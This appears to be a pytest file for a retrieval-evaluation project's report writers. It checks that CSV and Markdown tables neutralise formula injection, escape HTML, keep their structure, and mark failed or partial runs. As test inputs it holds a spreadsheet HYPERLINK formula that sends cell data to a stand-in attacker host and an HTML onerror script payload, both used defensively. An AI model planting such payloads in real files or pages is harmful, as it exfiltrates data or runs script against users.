"""The comparison's writers: one cell-escaping rule for every CSV and Markdown table HubLab writes
(``hublab.reports.tables``) — a spreadsheet formula in a name (``=…``, ``+…``, ``-…``, ``@…``, tab, CR) is
neutralised, HTML is shown and never run, a ``|`` or a line break cannot add a column or break a row — and a run
that did not answer every question is marked (``status``: FAILED / PARTIAL with counts, and a line above the
table) in ``compare.md/csv`` and ``methods.md/csv``, never a silent row of zeros; ``report compare`` then exits 1."""

from __future__ import annotations

import ast
import csv
import json
from pathlib import Path

import pytest
import yaml

from hublab.config import Settings
from hublab.evaluation import names
from hublab.reports import tables

ROOT = Path(__file__).resolve().parents[2]
SRC = ROOT / "src" / "hublab"
EXAMPLE = ROOT / "examples" / "your-graph"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HTML = "<img src=x onerror=alert(1)>|extra\ncell"


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _columns(lines: list[str]) -> set[int]:
    """The number of cells of each Markdown table line (an escaped ``\\|`` is text, not a border)."""
    return {line.replace("\\|", "").count("|") - 1 for line in lines}


def test_one_rule_for_csv_cells_markdown_cells_and_latex_cells(tmp_path: Path):
    rows = [{"name": FORMULA, "@head": "+1+2", "tab": "\tx", "cr": "\rx", "at": "@SUM(A1)", "neg": -0.5,
             "dash": "-2+3", "ok": "plain"}]
    got = _read_csv(tables.write_csv(rows, tmp_path / "t.csv"))[0]
    assert got["name"] == "'" + FORMULA and got["'@head"] == "'+1+2" and got["tab"] == "'\tx"
    assert got["at"] == "'@SUM(A1)" and got["dash"] == "'-2+3" and got["cr"] == "'\rx"
    assert got["neg"] == "-0.5" and got["ok"] == "plain"  # numbers stay numbers
    md = tables.markdown_table([tables.Column("<b>h</b>", lambda r: r)], [HTML, "**best**"])
    lines = md.splitlines()
    assert len(lines) == 4 and _columns(lines) == {1}  # no extra column, no broken row
    assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;\\|extra cell" in md
    assert "&lt;b&gt;h&lt;/b&gt;" in lines[0] and "| **best** |" in md  # emphasis kept
    assert "\n" not in tables.latex_text("a\nb") and tables.md_code("a`b\nc") == "`a'b c`"


def _csv_writers_outside_tables() -> list[str]:
    """Every call of ``csv.writer``/``csv.DictWriter`` in the package outside ``reports/tables.py``."""
    found = []
    for f in sorted(SRC.rglob("*.py")):
        if f == SRC / "reports" / "tables.py":
            continue
        for node in ast.walk(ast.parse(f.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                    and node.func.attr in ("writer", "DictWriter") and getattr(node.func.value, "id", "") == "csv":
                found.append(f"{f.relative_to(SRC)}:{node.lineno}")
    return found


def test_every_csv_writer_is_the_one_in_reports_tables():
    """The one place: reports, predictions, slices, the OFAT table and ``hublab evaluate``'s output all use
    ``tables.write_csv``. The synthetic STaRK files are a dataset in STaRK's own format, read back as data (an
    apostrophe there would change a question), not a report."""
    assert _csv_writers_outside_tables() == ["datasets/stark/synthetic.py:130"]


def _compare_result(status: str):
    from hublab.experiment.comparison.single_graph import COLUMNS, CompareResult

    def row(method: str, pipeline: str, st: str) -> dict:
        r = {"method": method, "pipeline": pipeline, "bound": None, "llm": "none", "n_questions": 5, "scope": "full",
             "mlflow_run": "r", tables.STATUS: st, "s/question": 0.1, "index build s": 0.0,
             "LLM tokens/question": None, "kgCO2e/question": None}
        r.update({col: 0.0 if st else 0.5 for _, col in COLUMNS})
        return r

    return CompareResult([row("bm25", "bm25.yaml", ""), row(HTML, FORMULA, status)], [])


def test_a_failed_run_is_marked_in_compare_md_and_csv_and_names_are_escaped(tmp_path: Path):
    from hublab.experiment.comparison.single_graph import write_report

    failed = tables.run_status(5, 5)
    assert failed == "FAILED: 5 of 5 questions failed"
    assert tables.run_status(5, 2) == "PARTIAL: 2 of 5 questions failed" and tables.run_status(5, 0) == ""
    csv_path, md_path = write_report(_compare_result(failed), tmp_path, "<g>", "d|s")
    md = md_path.read_text()
    assert "1 run(s) did not answer every question (1 FAILED" in md and "| FAILED: 5 of 5 questions failed |" in md
    assert "<img" not in md and "`<g>` / `d|s`" in md
    assert len(_columns([line for line in md.splitlines() if line.startswith("|")])) == 1
    rows = _read_csv(csv_path)
    assert [r[tables.STATUS] for r in rows] == ["", failed]
    assert rows[1]["pipeline"] == "'" + FORMULA
    # a comparison whose runs all answered keeps its columns (committed reports stay as they were)
    clean_csv, clean_md = write_report(_compare_result(""), tmp_path / "clean", "g", "d")
    assert tables.STATUS not in _read_csv(clean_csv)[0] and "did not answer" not in clean_md.read_text()


def test_a_failed_run_is_marked_in_methods_md_csv_and_tex():
    from hublab.experiment.comparison.default_vs_tuned import Row, csv_rows, latex, markdown
    from hublab.experiment.comparison.statistics import add_statistics

    def row(method: str, maps: list[float], status: str = "") -> Row:
        per = {names.MAP_AT_10: maps, names.HITS_AT_10: [1.0 if v else 0.0 for v in maps]}
        metrics = {m: sum(v) / len(v) for m, v in per.items()}
        metrics.update({names.MRR_AT_10: 0.0, names.RECALL_AT_10: 0.0, names.TRIPLES_PER_QUESTION: 20.0})
        return Row(method, "gv1", "all", "default", f"pipelines/{method}.yaml", len(maps), metrics, per,
                   status=status)

    rows = [row("bm25", [1, 1, 0, 1]), row("broken|<b>x</b>", [0, 0, 0, 0], tables.run_status(4, 4))]
    add_statistics(rows)
    md = markdown(rows)
    assert "did not answer every question (1 FAILED" in md and "FAILED: 4 of 4 questions failed" in md
    assert "<b>" not in md and "broken\\|&lt;b&gt;x&lt;/b&gt;" in md
    assert "FAILED: 4 of 4" in latex(rows)
    assert [r[tables.STATUS] for r in csv_rows(rows)] == ["", "FAILED: 4 of 4 questions failed"]
    assert tables.STATUS not in csv_rows(rows[:1])[0]


def test_a_failed_evaluation_is_marked_in_the_evaluations_table(tmp_path: Path, shared: Path):
    from hublab.experiment.comparison.evaluations import evaluation_rows, write_report

    params = yaml.safe_load((ROOT / "params.yaml").read_text())
    params["paths"]["thesis_results"] = str(shared / "reference/thesis_results")
    params["evaluate"]["runs"] = [{"pipeline": "bm25", "retriever": "bm25", "graph": "gv1", "dataset": "gv1"}]
    st = Settings(tmp_path, params)
    out = tmp_path / "reports/eval/bm25-gv1"
    out.mkdir(parents=True)
    (out / "metrics.json").write_text(json.dumps({"hit_at_10_triples": 0.0, "n_questions": 170.0,
                                                  "n_errors": 170.0}))
    assert evaluation_rows(st)[0][tables.STATUS] == "FAILED: 170 of 170 questions failed"
    data, md = write_report(st, tmp_path / "reports/evaluations")
    assert "FAILED: 170 of 170" in md.read_text() and _read_csv(data)[0][tables.STATUS].startswith("FAILED")


@pytest.fixture()
def failing_method():
    """A method whose every question raises (registered as a plugin test double for this test)."""
    from hublab.retrievers import registry
    from hublab.retrievers.base import RetrievalResult, Retriever

    class AlwaysFails(Retriever):
        def _retrieve(self, question, topic_entity_id, topic_entity_value) -> RetrievalResult:
            raise RuntimeError("the backend is down")

    registry.register("always_fails")(AlwaysFails)
    yield "always_fails"
    registry._PLUGINS.pop("always_fails", None)


@pytest.mark.slow
def test_report_compare_with_a_run_whose_every_question_failed_marks_it_and_exits_1(
        tmp_path: Path, shared: Path, monkeypatch, failing_method: str):
    from conftest import invoke_cli, pipelines_project

    root = pipelines_project(tmp_path / "proj", shared, monkeypatch)
    (root / "pipelines" / "fails.yaml").write_text(yaml.safe_dump({"name": "fails",
                                                                   "retriever": {"type": failing_method}}))
    for f in ("graph.ttl", "questions.csv"):
        (root / f).write_bytes((EXAMPLE / f).read_bytes())
    code, out, err = invoke_cli(["report", "compare", "--graph", "graph.ttl", "--dataset", "questions.csv",
                                 "--pipelines", "bm25,fails", "--no-carbon", "--out", str(root / "cmp")])
    assert code == 1, out + err
    assert "error: 1 run(s) FAILED" in err and "Traceback" not in out + err
    md = (root / "cmp" / "compare.md").read_text()
    assert "FAILED: 5 of 5 questions failed" in md and "did not answer every question" in md
    rows = {r["pipeline"]: r for r in _read_csv(root / "cmp" / "compare.csv")}
    assert rows["fails.yaml"][tables.STATUS].startswith("FAILED") and rows["bm25.yaml"][tables.STATUS] == ""
